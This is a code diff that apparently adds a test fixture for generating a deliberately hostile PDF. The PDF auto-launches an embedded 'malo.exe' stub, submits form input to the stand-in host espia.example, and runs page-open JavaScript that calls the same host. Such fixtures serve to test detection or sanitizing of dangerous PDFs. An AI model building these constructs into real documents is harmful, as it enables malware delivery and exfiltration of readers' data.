@@ -167,6 +167,23 @@ def paper():
     return out.getvalue()
 
 
+def armed_paper():
+    """A PDF that starts a program, sends what is typed, runs a script when a page is seen, and carries a program."""
+    pdf = pikepdf.new()
+    page = pdf.add_blank_page().obj
+    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F="malo.exe")
+    pdf.attachments["malo.exe"] = b"MZ malo"
+    sends = Dictionary(S=Name.SubmitForm, F="http://espia.example")
+    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=sends)
+    page.Annots = pikepdf.Array([pdf.make_indirect(link)])
+    page.AA = Dictionary(
+        O=Dictionary(S=Name.JavaScript, JS="app.launchURL('http://espia.example')")
+    )
+    out = BytesIO()
+    pdf.save(out)
+    return out.getvalue()
+
+
 def recording(kind, picture=None, sound=None, **options):
     """A container of this kind with tags of the whole, of its streams, and the place in both forms of telephones."""
     out = BytesIO()
